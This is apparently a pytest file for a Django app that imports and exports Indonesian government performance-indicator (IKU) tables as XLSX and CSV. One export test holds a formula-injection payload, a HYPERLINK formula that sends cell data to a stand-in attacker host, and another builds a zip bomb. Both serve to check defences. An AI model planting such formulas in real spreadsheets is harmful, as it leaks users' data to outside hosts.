"""IKU tables as XLSX: the template, an upload read cell by cell, the export, and the commands."""

import csv
import io
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.core.management.base import CommandError
from openpyxl import Workbook, load_workbook

from iku import xlsx
from iku.models import IkuSubmission
from tests.factories import client_for
from workflow.steps import STEP_BY_NUMBER, IkuStage

PUBLISHED = [
    # A title line and an empty line above the header, a "No" column, merged-looking blank Sasaran.
    ["INDIKATOR KINERJA UTAMA DINAS KESEHATAN"],
    [],
    ["No", "Sasaran Strategis", "Indikator Kinerja", "Formula", "Satuan", "Target", "Sumber Data", "Penanggung Jawab"],
    [1, "Meningkatnya derajat kesehatan masyarakat", "Usia harapan hidup", None, "tahun", "71,24 (akhir RPJMD 2023)"],
    [2, None, "Angka kematian ibu", "Jumlah kematian ibu / KH x 100.000", None,
     "< 150 per 100.000 kelahiran hidup (tahun 2026)", None, None],
    [3, None, "Jumlah kasus kematian bayi", None, None, 419],
]


def workbook(lines, title="IKU") -> bytes:
    book = Workbook()
    sheet = book.active
    sheet.title = title
    for line in lines:
        sheet.append(line)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def upload(content: bytes, name="iku.xlsx"):
    return SimpleUploadedFile(name, content, content_type=xlsx.CONTENT_TYPE)


@pytest.fixture
def at_konsep(walk):
    return walk(STEP_BY_NUMBER[3].state)


# What the agency had typed in the grid and the note when it pressed "Muat berkas ke tabel".
TYPED = {"r-1-indikator": "Diketik sebelum memuat berkas", "catatan": "Catatan yang diketik"}


def post_file(people, dossier, content, name="iku.xlsx", user="dinkes"):
    return client_for(people, user).post(
        f"/dosier/{dossier.pk}/iku/unggah/",
        {"state": dossier.state, "revision": dossier.revision, "berkas": upload(content, name), **TYPED}, follow=True,
    )


def assert_typed_kept(page):
    assert "Berkas tidak dimuat; tabel dan catatan di bawah tetap seperti yang Anda ketik." in page
    assert ">Diketik sebelum memuat berkas</textarea>" in page and "Catatan yang diketik</textarea>" in page


def draft_of(people, dossier, user="dinkes"):
    submission = IkuSubmission.objects.filter(dossier=dossier, skpd=people[user].skpd).first()
    return submission.draft if submission else []


def test_the_template_has_the_columns_an_example_and_length_rules(people, at_konsep):
    response = client_for(people, "dinkes").get(f"/dosier/{at_konsep.pk}/iku/templat.xlsx")
    sheet = load_workbook(io.BytesIO(response.content))["IKU"]
    assert [c.value for c in sheet[1]] == [
        "Sasaran Strategis", "Indikator Kinerja Utama", "Penjelasan/Alasan", "Formula/Cara Pengukuran", "Satuan",
        "Target", "Sumber Data", "Penanggung Jawab",
    ]
    assert sheet["B2"].value == "Angka kematian ibu"
    assert sheet.column_dimensions["B"].width == 45
    rules = {str(rule.sqref): rule.formula1 for rule in sheet.data_validations.dataValidation}
    assert rules["B2:B301"] == "2000" and rules["F2:F301"] == "200"


def test_the_template_filled_in_comes_back_as_the_draft(people, at_konsep):
    client = client_for(people, "dinkes")
    book = load_workbook(io.BytesIO(client.get(f"/dosier/{at_konsep.pk}/iku/templat.xlsx").content))
    sheet = book["IKU"]
    sheet.append(["Meningkatnya akses layanan", "Cakupan JKN", "", "Peserta JKN / penduduk", "persen", "98"])
    out = io.BytesIO()
    book.save(out)
    page = post_file(people, at_konsep, out.getvalue()).content.decode()
    # Loaded into the grid for review, beside the note as typed; nothing kept until saved.
    assert "1 baris dimuat dari iku.xlsx ke tabel di bawah. Belum ada yang disimpan" in page  # example left out
    assert 'name="r-1-indikator" id="r-1-indikator"' in page and ">Cakupan JKN</textarea>" in page
    assert "Diketik sebelum memuat berkas" not in page and "Catatan yang diketik</textarea>" in page
    assert draft_of(people, at_konsep) == []
    client.post(f"/dosier/{at_konsep.pk}/iku/draf/", {
        "state": at_konsep.state, "revision": at_konsep.revision, "r-1-indikator": "Cakupan JKN", "catatan": "Dari berkas",
    })
    assert [row["indikator"] for row in draft_of(people, at_konsep)] == ["Cakupan JKN"]


def test_a_file_shaped_like_a_published_table_is_read_without_error(people, at_konsep):
    read = xlsx.read_upload(upload(workbook(PUBLISHED)))
    assert read.ok, [str(p) for p in read.problems]
    assert [row["indikator"] for row in read.rows] == ["Usia harapan hidup", "Angka kematian ibu", "Jumlah kasus kematian bayi"]
    assert read.rows[2]["target"] == "419" and read.rows[1]["sasaran_strategis"] == ""
    assert any(str(w) == "Lembar IKU, baris 4, kolom D: Formula/cara pengukuran belum diisi." for w in read.warnings)


def test_every_bad_cell_is_named_by_sheet_row_and_column_and_nothing_is_saved(people, at_konsep):
    lines = PUBLISHED[:4] + [[2, None, None, "rumus tanpa indikator"], [3, None, "Indikator", "x" * 2001]]
    page = post_file(people, at_konsep, workbook(lines)).content.decode()
    assert_typed_kept(page)
    assert "Lembar IKU, baris 5, kolom C: Indikator kinerja utama wajib diisi." in page
    assert "Lembar IKU, baris 6, kolom D: Formula/Cara Pengukuran paling banyak 2.000 karakter; terisi 2.001." in page
    assert draft_of(people, at_konsep) == []


@pytest.mark.parametrize("content, name, message", [
    (b"Sasaran;Indikator\nA;B\n", "iku.csv", "Berkas harus berformat XLSX"),
    (b"", "iku.xlsx", "Berkas kosong."),
    (b"not a zip at all", "iku.xlsx", "Berkas rusak atau bukan arsip yang dapat dibaca."),
    (workbook([["hanya", "teks"], ["tanpa", "judul"]]), "iku.xlsx", "judul kolom tidak ditemukan"),
    (workbook([PUBLISHED[2]]), "iku.xlsx", "tidak berisi baris IKU"),
])
def test_a_wrong_empty_or_unreadable_file_is_told_plainly(people, at_konsep, content, name, message):
    page = post_file(people, at_konsep, content, name).content.decode()
    assert message in page
    assert_typed_kept(page)
    assert draft_of(people, at_konsep) == []


def test_a_huge_or_bomb_file_is_refused_before_it_is_read(settings, people, at_konsep):
    settings.SOP_IKU_XLSX_MAX_BYTES = 64 * 1024
    big = workbook(PUBLISHED) + b"\0" * (70 * 1024)
    assert "Berkas terlalu besar" in post_file(people, at_konsep, big).content.decode()
    bomb = io.BytesIO()
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/worksheets/sheet1.xml", b"\0" * (40 * 1024 * 1024))
    page = post_file(people, at_konsep, bomb.getvalue()).content.decode()
    assert "Isi berkas terlalu besar setelah dibuka" in page or "zip bomb" in page


def test_the_export_numbers_rows_as_the_page_and_csv_and_never_runs_a_formula(people, walk):
    dossier = walk(STEP_BY_NUMBER[3].state)
    client = client_for(people, "dinkes")
    hostile = '=HYPERLINK("http://evil.example/?d="&A1,"Klik")'
    posted = {"revision": dossier.revision, "state": dossier.state, "r-1-indikator": hostile, "r-1-target": "-5"}
    client.post(f"/dosier/{dossier.pk}/aksi/ajukan_iku/", posted)
    client_for(people, "dinsos").post(
        f"/dosier/{dossier.pk}/aksi/ajukan_iku/",
        {"revision": dossier.revision, "state": dossier.state, "r-1-indikator": "Indeks layanan sosial"},
    )
    kasubag = client_for(people, "kasubag")
    sheet = load_workbook(io.BytesIO(kasubag.get(f"/dosier/{dossier.pk}/iku/konsep/xlsx/").content))["IKU"]
    exported = [[c.value for c in row[:4]] for row in sheet.iter_rows(min_row=2)]
    assert exported == [[1, "Dinas Kesehatan", None, hostile], [2, "Dinas Sosial", None, "Indeks layanan sosial"]]
    assert sheet["D2"].data_type == "s"  # text, not a formula
    lines = list(csv.reader(io.StringIO(kasubag.get(f"/dosier/{dossier.pk}/iku/konsep/csv/").content.decode("utf-8-sig")), delimiter=";"))
    assert [line[:2] for line in lines[1:]] == [["1", "Dinas Kesehatan"], ["2", "Dinas Sosial"]]
    assert lines[1][3] == "'" + hostile and lines[1][7] == "-5"
    own = load_workbook(io.BytesIO(client.get(f"/dosier/{dossier.pk}/iku/konsep/xlsx/").content))["IKU"]
    assert [row[1].value for row in own.iter_rows(min_row=2)] == ["Dinas Kesehatan"]


def test_import_iku_saves_a_draft_or_sends_and_refuses_a_bad_file_with_exit_2(people, at_konsep, tmp_path, capsys):
    good = tmp_path / "dinkes.xlsx"
    good.write_bytes(workbook(PUBLISHED))
    call_command("import_iku", at_konsep.pk, "Dinas Kesehatan", str(good))
    assert "3 baris disimpan sebagai draf Konsep IKU Dinas Kesehatan." in capsys.readouterr().out
    assert len(draft_of(people, at_konsep)) == 3
    call_command("import_iku", at_konsep.pk, str(people["dinkes"].skpd_id), str(good), "--as", "dinkes")
    submission = IkuSubmission.objects.get(dossier=at_konsep, skpd=people["dinkes"].skpd, stage=IkuStage.KONSEP)
    assert submission.rows.count() == 3 and submission.submitted_by == people["dinkes"]

    bad = tmp_path / "bad.xlsx"
    bad.write_bytes(workbook(PUBLISHED[:3] + [[1, "Sasaran", None, "rumus"]]))
    with pytest.raises(CommandError) as refused:
        call_command("import_iku", at_konsep.pk, "Dinas Sosial", str(bad))
    assert refused.value.returncode == 2
    assert "Lembar IKU, baris 4, kolom C: Indikator kinerja utama wajib diisi." in capsys.readouterr().err
    assert draft_of(people, at_konsep, "dinsos") == []
    with pytest.raises(CommandError) as not_allowed:
        call_command("import_iku", at_konsep.pk, "Dinas Sosial", str(good), "--as", "dinkes")
    assert not_allowed.value.returncode == 2


def test_export_iku_writes_xlsx_and_csv(people, walk, tmp_path):
    dossier = walk(STEP_BY_NUMBER[4].state)
    call_command("export_iku", dossier.pk, "--stage", "konsep", "-o", str(tmp_path / "iku.xlsx"))
    sheet = load_workbook(tmp_path / "iku.xlsx")["IKU"]
    assert [row[1].value for row in sheet.iter_rows(min_row=2)] == ["Dinas Kesehatan", "Dinas Sosial"]
    call_command("export_iku", dossier.pk, "--stage", "konsep", "--skpd", "Dinas Sosial", "-o", str(tmp_path / "iku.csv"))
    lines = (tmp_path / "iku.csv").read_text(encoding="utf-8-sig").splitlines()
    assert len(lines) == 2 and lines[1].startswith("1;Dinas Sosial;")
